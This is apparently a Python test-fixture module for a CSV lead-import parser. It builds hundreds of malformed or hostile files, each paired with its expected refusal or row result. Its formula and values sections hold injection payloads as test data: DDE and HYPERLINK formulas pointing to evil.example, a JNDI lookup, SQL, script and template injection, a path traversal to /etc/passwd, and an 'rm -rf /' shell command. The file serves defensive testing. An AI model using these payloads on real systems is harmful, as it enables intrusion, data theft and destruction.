"""Files that somebody, some program or some accident makes of a list of leads, by name, with what must come of each.

`Refused`: the file as a whole is not taken, and the message says these words. `Rows`: so many rows make a lead, and the others
are rejected in these lines for these reasons.
"""

import bz2
import codecs
import gzip
import io
import json
import lzma
import pickle
import tarfile
import zipfile
from collections.abc import Iterator, Mapping
from dataclasses import dataclass, field

HEADER = "Email,First Name,Company,Note"


@dataclass(frozen=True)
class Refused:
    says: str


@dataclass(frozen=True)
class Rows:
    good: int
    rejected: Mapping[int, str] = field(default_factory=dict)


@dataclass(frozen=True)
class HostileFile:
    name: str
    data: bytes
    expected: Refused | Rows


def lead(number: int, note: str = "") -> str:
    return f"p{number}@alder.example,Ada,Alder,{note}"


def text(*rows: str, header: str = HEADER, end: str = "\n") -> str:
    return end.join([header, *rows, ""])


def between(row: str) -> str:
    """A row among good ones, in line 3."""
    return text(lead(1), row, lead(2))


def _zip() -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w") as archive:
        archive.writestr("leads.csv", text(lead(1)))
    return packed.getvalue()


def _tar() -> bytes:
    packed = io.BytesIO()
    with tarfile.open(fileobj=packed, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        member = tarfile.TarInfo("leads.csv")
        member.size = 5
        archive.addfile(member, io.BytesIO(b"Email"))
    return packed.getvalue()


def other_formats() -> Iterator[HostileFile]:
    csv = text(lead(1)).encode()
    pictures = {
        "png": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR",
        "jpeg": b"\xff\xd8\xff\xe0\x00\x10JFIF\x00",
        "gif": b"GIF89a\x01\x00\x01\x00\x80\x00\x00",
        "old gif": b"GIF87a\x01\x00\x01\x00",
        "wav": b"RIFF\x24\x00\x00\x00WAVEfmt ",
        "mp3": b"ID3\x03\x00\x00\x00\x00\x00\x00",
    }
    programs = {
        "linux program": b"\x7fELF\x02\x01\x01\x00",
        "windows program": b"MZ\x90\x00\x03\x00\x00\x00",
        "java class": b"\xca\xfe\xba\xbe\x00\x00\x00\x34",
        "web assembly": b"\x00asm\x01\x00\x00\x00",
    }
    packed = {
        "zip": _zip(),
        "empty zip": b"PK\x05\x06" + bytes(18),
        "xlsx": b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00[Content_Types].xml",
        "ods": b"PK\x03\x04\x14\x00\x00\x08\x00\x00mimetypeapplication/vnd.oasis.opendocument.spreadsheet",
        "gzip": gzip.compress(csv),
        "bzip2": bz2.compress(csv),
        "xz": lzma.compress(csv),
        "zstandard": b"\x28\xb5\x2f\xfd\x04\x00\x29\x00\x00abcde",
        "lz4": b"\x04\x22\x4d\x18\x64\x40\xa7",
        "7-zip": b"7z\xbc\xaf\x27\x1c\x00\x04",
        "rar": b"Rar!\x1a\x07\x01\x00",
        "tar": _tar(),
    }
    documents = {
        "pdf": b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
        "xls": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600),
        "rtf": b"{\\rtf1\\ansi Leads}",
        "html page": b"<!DOCTYPE html><html><body>Sign in</body></html>",
        "html table called csv": b"<table><tr><td>Email</td></tr></table>",
        "html after blank lines": b"\n\n  <html><head></head></html>",
        "html with a byte order mark": codecs.BOM_UTF8 + b"<html></html>",
        "xml": b'<?xml version="1.0"?><leads/>',
        "json object": json.dumps({"email": "a@b.example"}).encode(),
        "json list": json.dumps([{"email": "a@b.example", "name": "Ada"}], indent=1).encode(),
        "json list of lists": json.dumps([["email"], ["a@b.example"]]).encode(),
        "json lines": b'{"email": "a@b.example"}\n{"email": "c@d.example"}\n',
        "empty json list": b"[]",
        "vcard": b"BEGIN:VCARD\nVERSION:3.0\nEMAIL:a@b.example\nEND:VCARD\n",
        "calendar": b"BEGIN:VCALENDAR\nVERSION:2.0\nEND:VCALENDAR\n",
        "private key": b"-----BEGIN PRIVATE KEY-----\nMIIE\n",
    }
    tables = {
        "parquet": b"PAR1\x15\x04\x15\x10",
        "avro": b"Obj\x01\x04\x16avro.schema",
        "orc": b"ORC\x08\x03\x10",
        "arrow": b"ARROW1\x00\x00\xff\xff",
        "sqlite": b"SQLite format 3\x00\x10\x00",
        "python pickle": pickle.dumps({"email": ["a@b.example"]}, protocol=0)[:20] + b"\x00\x01",
    }
    for name, data in {**pictures, **programs, **packed, **documents}.items():
        yield HostileFile(f"a {name} called csv", data, Refused("not CSV but"))
    for name, data in tables.items():
        says = "not CSV but" if name != "python pickle" else ""
        yield HostileFile(f"a {name} called csv", data, Refused(says))
    for size in (1, 100, 100_000):
        yield HostileFile(f"{size} NUL bytes", bytes(size), Refused("header"))
    yield HostileFile("random bytes", bytes((number * 167 + 13) % 256 for number in range(5_000)), Refused(""))
    yield HostileFile(
        "prose", b"Dear all,\nplease find the list of leads attached.\nBest, Maria\n", Refused("no match key")
    )
    yield HostileFile("a letter in one column", b"Dear all\nplease find the list\n", Refused("no match key"))
    yield HostileFile("an SQL dump", b"INSERT INTO leads VALUES (1, 'a@b.example');\n", Refused("names no columns"))
    yield HostileFile("a header that begins like an mp3", b"ID3,Email\n1,a@b.example\n", Rows(1))
    yield HostileFile("a header that begins like an ORC file", b"ORC;Email\n1;a@b.example\n", Rows(1))


def nothing_in_it() -> Iterator[HostileFile]:
    for name, data in {
        "an empty file": b"",
        "one line feed": b"\n",
        "a thousand line ends": b"\r\n" * 1_000,
        "spaces": b"   \n   \n",
        "tabs and spaces": b"\t \t\n \t \n",
        "a utf-8 mark alone": codecs.BOM_UTF8,
        "a utf-16 mark alone": codecs.BOM_UTF16_LE,
        "a big-endian utf-16 mark alone": codecs.BOM_UTF16_BE,
        "a utf-32 mark alone": codecs.BOM_UTF32_LE,
        "a mark and blank lines": codecs.BOM_UTF8 + b"\n\n\n",
    }.items():
        yield HostileFile(name, data, Refused(""))
    yield HostileFile("separators alone", b",,,\n,,,\n", Refused("no match key"))
    yield HostileFile("sep= alone", b"sep=;\n", Refused("no match key"))
    yield HostileFile("a header alone", HEADER.encode(), Rows(0))
    yield HostileFile("a header and blank lines", text("", "", "").encode(), Rows(0))
    yield HostileFile("a header and rows of separators", text(",,,", " , ,,").encode(), Rows(0))
    yield HostileFile("a header twice", text(HEADER, lead(1)).encode(), Rows(1, {2: "not an e-mail address"}))


SEPARATORS = {"commas": ",", "semicolons": ";", "tabs": "\t", "pipes": "|"}
LINE_ENDS = {"line feeds": "\n", "both": "\r\n", "carriage returns": "\r"}
NAMES = {
    "utf-8": "Müller Zoë 李 Ёлкин",
    "utf-8-sig": "Müller Zoë 李 Ёлкин",
    "utf-16": "Müller Zoë 李 Ёлкин",
    "utf-16-le": "Müller",
    "utf-16-be": "Müller",
    "utf-32": "Müller 李",
    "cp1252": "Müller Zoë",
    "latin-1": "Élodie Grünwald",
}


def encodings_and_shapes() -> Iterator[HostileFile]:
    for encoding, name in NAMES.items():
        for shape, separator in SEPARATORS.items():
            for ends, end in LINE_ENDS.items():
                rows = [f"p{number}@alder.example,{name},Alder GmbH," for number in range(3)]
                content = text(*rows, end=end).replace(",", separator)
                yield HostileFile(f"{encoding}, {shape}, lines end with {ends}", content.encode(encoding), Rows(3))


def encodings_gone_wrong() -> Iterator[HostileFile]:
    good = text(lead(1), lead(2)).encode()
    utf8 = text(*(f"p{number}@alder.example,Jürgen,Müller," for number in range(9))).encode()
    latin = "q@alder.example,Jürgen,Müller,\n".encode("latin-1")
    bad = "bytes that are not utf-8"
    yield HostileFile("one latin-1 row in a utf-8 file", utf8 + latin, Rows(9, {11: bad}))
    yield HostileFile(
        "a latin-1 row in the middle of a utf-8 file", utf8 + latin + utf8[len(HEADER) + 1 :], Rows(18, {11: bad})
    )
    for name, cell in {
        "a lone continuation byte": b"\x80",
        "a torn two-byte character": b"\xc3",
        "a torn four-byte character": b"\xf0\x9f\x98",
        "an overlong slash": b"\xc0\xaf",
        "an overlong NUL": b"\xc0\x80",
        "a surrogate in utf-8": b"\xed\xa0\x80",
        "a character above Unicode": b"\xf4\x90\x80\x80",
        "bytes fe and ff": b"\xfe\xff",
        "a five-byte character": b"\xf8\x88\x80\x80\x80",
    }.items():
        row = b"x@alder.example,Ada," + cell + b",\n"
        yield HostileFile(f"{name} in a cell", utf8 + row, Rows(9, {11: bad}))
    yield HostileFile("bad bytes in the header", b"Email,Na\xff\xfeme\n" + utf8, Refused("header"))
    yield HostileFile("a NUL in the header", b"Email,Na\x00me\na@b.example,x\n", Refused("header"))
    yield HostileFile(
        "a utf-16 file cut in a character", text(lead(1)).encode("utf-16")[:-1], Rows(0, {2: "not utf-8"})
    )
    yield HostileFile("a utf-16 mark before utf-8 text", codecs.BOM_UTF16_LE + good, Refused(""))
    yield HostileFile("two utf-8 marks", codecs.BOM_UTF8 * 2 + good, Rows(2))
    yield HostileFile("a utf-8 mark inside the file", text(lead(1), "\ufeff" + lead(2)).encode(), Rows(2))
    yield HostileFile(
        "a mark before each line", b"".join(codecs.BOM_UTF8 + line + b"\n" for line in good.splitlines()), Rows(2)
    )
    yield HostileFile("utf-16 without a mark, big-endian", text(lead(1)).encode("utf-16-be"), Rows(1))
    yield HostileFile("utf-32 without a mark", text(lead(1)).encode("utf-32-le"), Refused(""))
    yield HostileFile("text encoded as utf-8 twice", "Email,Name\na@b.example,MÃ¼ller\n".encode(), Rows(1))
    yield HostileFile(
        "replacement characters", text(lead(1), "b@b.example,A\ufffda,,").encode(), Rows(1, {3: "bytes that are not"})
    )
    yield HostileFile("ebcdic", text(lead(1)).encode("cp037"), Refused(""))
    yield HostileFile("utf-7", text("a@b.example,M+APw-ller,,").encode(), Rows(1))
    for encoding, name in {
        "cp1251": "Александр Петров, Екатерина Иванова",
        "koi8_r": "Александр Петров, Екатерина Иванова",
        "shift_jis": "田中太郎 山田花子 株式会社",
        "euc_jp": "田中太郎 山田花子 株式会社",
        "gb18030": "李明 王小红 有限公司",
        "big5": "陳大文 林小姐 有限公司",
        "euc_kr": "김철수 이영희 주식회사",
    }.items():
        rows = (f'p{number}@alder.example,"{name}",Alder,' for number in range(6))
        yield HostileFile(f"{encoding} without saying so", text(*rows).encode(encoding), Rows(6))


def quotes() -> Iterator[HostileFile]:
    cases: dict[str, tuple[str, Refused | Rows]] = {}
    for place in range(4):
        cells = ["x@alder.example", "Ada", "Alder", "note"]
        cells[place] = f'"{cells[place]}'
        broken = between(",".join(cells))
        cases[f"a quote never closed in column {place + 1}"] = (
            broken,
            Rows(2, {3: "quote"}),
        )
        cases[f"a quote never closed in column {place + 1} of the last row"] = (
            text(lead(1), ",".join(cells)),
            Rows(1, {3: "never closed"}),
        )
        cells[place] = f'{cells[place]}" tail'
        cases[f"text after a closing quote in column {place + 1}"] = (
            between(",".join(cells)),
            Rows(2, {3: "closing quote"}),
        )
        cells[place] = '""'
        if place:
            cases[f"an empty quoted cell in column {place + 1}"] = (between(",".join(cells)), Rows(3))
    cases |= {
        "an open quote in the header": (f'"{text(lead(1))}', Refused("never closed")),
        "quotes around everything": (
            text('"a@b.example","Ada","Alder","x"', header='"Email","First Name","Company","Note"'),
            Rows(1),
        ),
        "a quote in the middle of a plain cell": (between('x@alder.example,Ada "A" Alder,,'), Rows(3)),
        "doubled quotes": (between('x@alder.example,"Ada ""A"" Alder",,'), Rows(3)),
        "backslash before quotes": (between('x@alder.example,"Ada \\"A\\" Alder",,'), Rows(2, {3: "closing quote"})),
        "single quotes": (between("'x@alder.example','Ada','Alder',''"), Rows(2, {3: "not an e-mail"})),
        "curly quotes": (between("x@alder.example,“Ada,Alder”,"), Rows(3)),
        "quotes after a space": (between('x@alder.example, "Ada", "Alder",'), Rows(3)),
        "a separator in quotes": (between('x@alder.example,"Alder, Ada",,'), Rows(3)),
        "a line break in quotes": (between('x@alder.example,"Ada\nAlder",,'), Rows(3)),
        "both line breaks in quotes": (between('x@alder.example,"Ada\r\nAlder",,'), Rows(3)),
        "a hundred lines in one cell": (between('x@alder.example,Ada,,"' + "line\n" * 100 + '"'), Rows(3)),
        "two thousand lines in one cell": (
            between('x@alder.example,Ada,,"' + "line\n" * 2_000 + '"'),
            Rows(
                2, {3: "never closed"} | dict.fromkeys(range(4, 2_003), "the row has 1 cell") | {2_003: "never closed"}
            ),
        ),
        "three quotes": (between('x@alder.example,""",,'), Rows(2, {3: ""})),
        "nothing but quotes": (between('"""""",,,'), Rows(2, {3: "not an e-mail"})),
        "a row of one quote": (between('"'), Rows(2, {3: "quote"})),
        "two open quotes in two rows": (
            text(lead(1), 'x@alder.example,"Ada,,', lead(2), 'y@alder.example,"Ben,,', lead(3)),
            Rows(3, {3: "not closed", 5: ""}),
        ),
        "every row opens a quote": (
            text(*(f'p{n}@alder.example,"Ada,,' for n in range(6))),
            Rows(0, dict.fromkeys(range(2, 8), "quote")),
        ),
        "an open quote at the end without a line end": (
            text(lead(1), 'x@b.example,"A,,').rstrip("\n"),
            Rows(1, {3: "never closed"}),
        ),
    }
    for name, (content, expected) in cases.items():
        yield HostileFile(name, content.encode(), expected)


def nul_and_control_characters() -> Iterator[HostileFile]:
    for place, column in enumerate(HEADER.split(",")):
        cells = ["x@alder.example", "Ada", "Alder", "note"]
        cells[place] += "\x00"
        yield HostileFile(f"a NUL in the column {column}", between(",".join(cells)).encode(), Rows(2, {3: "NUL"}))
    yield HostileFile("a row of NULs", between("\x00\x00\x00").encode(), Rows(2, {3: ""}))
    yield HostileFile("a NUL in quotes", between('x@alder.example,"A\x00",,').encode(), Rows(2, {3: "NUL"}))
    yield HostileFile("NULs after the last row", (text(lead(1)) + "\x00" * 50).encode(), Rows(1, {3: ""}))
    for code in [*range(1, 9), 11, 12, *range(14, 32), 127]:
        content = between(f"x@alder.example,A{chr(code)}da,Alder,").encode()
        yield HostileFile(f"control character {code:#04x} in a name", content, Rows(3))
    for name, character in {
        "a next-line character": "\x85",
        "a line separator": "\u2028",
        "a paragraph separator": "\u2029",
        "a zero-width space": "\u200b",
        "a right-to-left override": "\u202e",
        "a byte order mark": "\ufeff",
        "a noncharacter": "\uffff",
        "a private character": "\ue000",
        "a character outside the first plane": "\U0001f9d1\u200d\U0001f4bb",
        "a soft hyphen": "\xad",
        "a thousand accents": "\u0301" * 100,
        "a tag character": "\U000e0041",
    }.items():
        yield HostileFile(f"{name} in a name", between(f"x@alder.example,A{character}da,Alder,").encode(), Rows(3))
    header = HEADER.replace("Email", "\u200bEmail\xa0").replace("First Name", "First\xa0Name")
    yield HostileFile("odd spaces in the header", text(lead(1), header=header).encode(), Rows(1))


def ragged_rows() -> Iterator[HostileFile]:
    for cells in (1, 2, 3, 5, 6, 50, 5_000):
        row = ",".join(["x@alder.example", *(["y"] * (cells - 1))])
        noun = "cell" if cells == 1 else "cells"
        yield HostileFile(
            f"a row of {cells} {noun}", between(row).encode(), Rows(2, {3: f"the row has {cells} {noun}"})
        )
    for extra in (1, 7, 3_000):
        yield HostileFile(f"{extra} separators at the end of a row", between(lead(3) + "," * extra).encode(), Rows(3))
    yield HostileFile(
        "semicolons in a row of a comma file", between("x@b.example;Ada;Alder;").encode(), Rows(2, {3: "1 cell"})
    )
    yield HostileFile(
        "another list below the first",
        text(lead(1), "", "Total,1", "Id,Sum", "1,2").encode(),
        Rows(1, {4: "2 cells", 5: "2 cells", 6: "2 cells"}),
    )
    yield HostileFile(
        "blank lines between rows",
        text(lead(1), "", "", lead(2), "  ", lead(3)).encode(),
        Rows(3),
    )
    yield HostileFile("no line end after the last row", text(lead(1)).rstrip("\n").encode(), Rows(1))
    yield HostileFile(
        "an end-of-file character at the end",
        (text(lead(1)) + "\x1a").encode(),
        Rows(1),
    )
    yield HostileFile("mixed line ends", f"{HEADER}\r\n{lead(1)}\n{lead(2)}\r\n{lead(3)}\n".encode(), Rows(3))
    yield HostileFile(
        "two carriage returns before each line feed", text(lead(1), lead(2), end="\r\r\n").encode(), Rows(2)
    )
    yield HostileFile(
        "a carriage return in the middle of a row",
        between("x@alder.example,A\rda,,").encode(),
        Rows(2, {3: "carriage return"}),
    )
    yield HostileFile("carriage returns in a quoted cell", between('x@alder.example,"A\rda",,').encode(), Rows(3))


def headers() -> Iterator[HostileFile]:
    for columns in (100, 1_000, 2_000):
        names = ["Email", *(f"Column {number}" for number in range(2, columns + 1))]
        row = ",".join(["x@alder.example", *(["v"] * (columns - 1))])
        yield HostileFile(f"{columns:,} columns", text(row, header=",".join(names)).encode(), Rows(1))
    many = ",".join(f"c{number}" for number in range(2_001))
    yield HostileFile("2,001 columns", f"{many}\n".encode(), Refused("2,001 columns"))
    yield HostileFile("a header of 300,000 characters", b"x" * 300_000 + b"\n1\n", Refused("longer than"))
    yield HostileFile("a header of half a million separators", b"," * 500_000, Refused(""))
    plain: dict[str, tuple[str, str, Refused | Rows]] = {
        "columns of the same name": ("Email,Note,Note,Note", "a@b.example,1,2,3", Rows(1)),
        "two e-mail columns": ("Email,Email", "a@b.example,c@d.example", Rows(1)),
        "columns without a name": ("Email,,,", "a@b.example,1,2,3", Rows(1)),
        "a header in capitals": ("EMAIL,FIRST NAME", "a@b.example,Ada", Rows(1)),
        "a header with line noise": ("*Email*:,_First-Name_", "a@b.example,Ada", Rows(1)),
        "a header in quotes with separators": ('"Email","Name, full"', 'a@b.example,"Alder, Ada"', Rows(1)),
        "a header that is a formula": ("Email,=1+1", "a@b.example,x", Rows(1)),
        "a header that is a script": ("Email,<script>alert(1)</script>", "a@b.example,x", Rows(1)),
        "a header that is SQL": ("Email,x'); drop table leads;--", "a@b.example,x", Rows(1)),
        "a header of 5,000 characters": (f"Email,{'h' * 5_000}", "a@b.example,x", Rows(1)),
        "a header of dots and dunders": (
            "Email,__class__,engagement.attended,attributes.",
            "a@b.example,a,b,c",
            Rows(1),
        ),
        "no e-mail column": ("Name,Company", "Ada,Alder", Refused("no match key")),
        "no header but a row": ("a@b.example,Ada", "c@d.example,Ben", Refused("names no columns")),
        "columns separated by colons": ("Email:Name", "a@b.example:Ada", Rows(0, {2: "not an e-mail address"})),
        "columns separated by spaces": ("Email Name", "a@b.example Ada", Refused("no match key")),
        "columns separated by carets": ("Email^Name", "a@b.example^Ada", Rows(0, {2: "not an e-mail address"})),
        "columns separated by unit separators": ("Email\x1fName", "a@b.example\x1fAda", Refused("no match key")),
        "sep= with semicolons": ("sep=;\nEmail;Name, full", "a@b.example;Ada, A", Rows(1)),
        "sep= in capitals": ("SEP=|\nEmail|Name", "a@b.example|Ada", Rows(1)),
    }
    for name, (header, row, expected) in plain.items():
        yield HostileFile(name, text(row, header=header).encode(), expected)
    yield HostileFile(
        "a report above the table",
        text("", "Title,Q4", "Email,Name", "a@b.example,Ada", header="Report").encode(),
        Rows(1),
    )
    yield HostileFile(
        "a table below a hundred lines",
        ("x\n" * 100 + "Email,Name\na@b.example,Ada\n").encode(),
        Refused("no match key"),
    )


FORMULAS = (
    '=HYPERLINK("http://evil.example","x")', "=cmd|'/c calc'!A1", "=1+1", "+1+1", "-1+1", "@SUM(1)", "\t=1+1", "=IMPORTXML(1)",
    "=DDE(1)", "-2+3+cmd|' /C calc'!A0", "＝1+1", " =1+1", "'=1+1", "%0A=1+1", "=", "+", "-", "@",
)  # fmt: skip


def formulas() -> Iterator[HostileFile]:
    for formula in FORMULAS:
        quoted = '"' + formula.replace('"', '""') + '"'
        yield HostileFile(
            f"the formula {formula!r} as a note", between(f"x@alder.example,Ada,Alder,{quoted}").encode(), Rows(3)
        )
        yield HostileFile(
            f"the formula {formula!r} as an address", between(f"{quoted},Ada,Alder,").encode(), Rows(2, {3: ""})
        )


def values() -> Iterator[HostileFile]:
    for name, address in {
        "without an at sign": "nobody",
        "with two at signs": "a@b@c.example",
        "with a space": "a b@c.example",
        "with a line of header injection": '"a@b.example\nBcc: all@evil.example"',
        "of 400 characters": "a" * 390 + "@b.example",
        "of a local host": "root@localhost",
        "of a number": "a@127.0.0.1",
        "with dots in a row": "a..b@c.example",
        "in angle brackets": "Ada <a@b.example>",
        "of two people": "a@b.example; c@d.example",
        "with a trailing dot": "a@b.example.",
        "without a name": "@b.example",
    }.items():
        yield HostileFile(f"an address {name}", between(f"{address},Ada,,").encode(), Rows(2, {3: ""}))
    for name, address in {
        "in capitals": "ADA@ALDER.EXAMPLE",
        "with a tag": "ada+webinar@alder.example",
        "with spaces around": "  ada@alder.example  ",
        "as a link": "mailto:ada@alder.example",
        "of an international domain": "ada@bücher.example",
    }.items():
        yield HostileFile(f"an address {name}", between(f"{address},Ada,,").encode(), Rows(3))
    for name, value in {
        "SQL": "'); drop table leads; --",
        "a script": "<script>alert(1)</script>",
        "a template": "{{7*7}} ${7*7} #{7*7}",
        "a lookup": "${jndi:ldap://evil.example/a}",
        "a path": "../../../../etc/passwd",
        "a format string": "%s%s%s%n {0.__class__}",
        "an entity bomb": "&lol9;&lol9;",
        "JSON": '"{""a"": [1, null]}"',
        "a shell command": "$(rm -rf /) `id`",
    }.items():
        yield HostileFile(f"{name} as a name", between(f"x@alder.example,{value},Alder,").encode(), Rows(3))
    for size, fits in ((300, True), (301, False), (131_073, False)):
        row = f"x@alder.example,{'n' * size},,"
        expected = Rows(3) if fits else Rows(2, {3: "longer than"})
        yield HostileFile(f"a name of {size:,} characters", between(row).encode(), expected)
    for size, fits in ((5_000, True), (5_001, False), (2_000_000, False)):
        expected = Rows(3) if fits else Rows(2, {3: "longer than"})
        yield HostileFile(
            f"a note of {size:,} characters", between(f"x@alder.example,,,{'n' * size}").encode(), expected
        )
    for field_name, bad in {
        "Attended": ("perhaps", "2", "ja nein", "yes/no"),
        "Questions Asked": ("many", "-1", "2.5", "1e400", "inf", "99999999999", "0x10"),
        "Registration Time": ("last week", "31.02.2025", "2025-13-01", "99999-01-01", "0000-00-00", "25:61", "now()"),
        "Downloads": ("101", "-3", "1.5"),
    }.items():
        for value in bad:
            rows = ["a@b.example,", f"x@b.example,{value}", "c@d.example,"]
            data = text(*rows, header=f"Email,{field_name}").encode()
            yield HostileFile(f"{value!r} as {field_name}", data, Rows(2, {3: ""}))


FILES: tuple[HostileFile, ...] = (
    *other_formats(),
    *nothing_in_it(),
    *encodings_and_shapes(),
    *encodings_gone_wrong(),
    *quotes(),
    *nul_and_control_characters(),
    *ragged_rows(),
    *headers(),
    *formulas(),
    *values(),
)
